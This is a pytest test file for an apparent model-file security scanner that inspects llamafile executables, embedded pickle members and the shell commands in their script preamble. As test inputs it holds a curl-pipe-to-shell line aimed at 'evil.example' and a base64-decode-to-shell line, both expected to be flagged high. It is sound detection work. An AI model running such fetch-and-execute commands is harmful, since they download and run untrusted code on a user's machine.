import pytest
from tests.checks.models.building import EVIL, Entry, format_of, judged, look, zipped

PROGRAM = b"MZqFpD='\n" + b"\0" * 64 + b"'\necho\n" + bytes(range(256)) * 8
README = Entry("README.md", b"text")


def rules(data, name="model.llamafile"):
    return {each.rule: each.severity.value for each in judged(look(data, name))}


@pytest.mark.parametrize("beginning", [b"MZqFpD='", b"jartsr='", b"APEDBG='"])
def test_a_program_with_a_model_in_it(beginning):
    seen = look(zipped(README, prefix=beginning + PROGRAM[8:]), "model.llamafile")
    assert format_of(seen) == "llamafile"
    assert not seen.not_checked
    found = {each.rule: each.severity.value for each in judged(seen)}
    assert found["MLG-BIN-002"] == "medium"
    assert not {"high", "critical"} & set(found.values())


def test_its_members_are_read():
    found = rules(zipped(README, Entry("weights.pkl", EVIL), prefix=PROGRAM))
    assert found["MLG-BIN-002"] == "medium"
    assert "critical" in found.values()


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        (b"curl -s http://evil.example/x | sh", "high"),
        (b"echo aGk= | base64 -d | sh", "high"),
        (b'o=$(command -v ape) && exec "$o" "$0" "$@"', None),
        (b"# curl -s http://evil.example/x | sh", None),
    ],
)
def test_commands_of_its_script(line, severity):
    found = rules(PROGRAM.replace(b"echo\n", line + b"\n"))
    assert found.get("MLG-CMD-001") == severity


def test_without_an_archive():
    assert rules(PROGRAM) == {"MLG-BIN-002": "medium"}


def test_the_content_decides():
    assert rules(PROGRAM, "weights.bin")["MLG-BIN-002"] == "medium"
    assert "MLG-BIN-002" not in rules(b"MZ" + PROGRAM[8:], "model.llamafile")
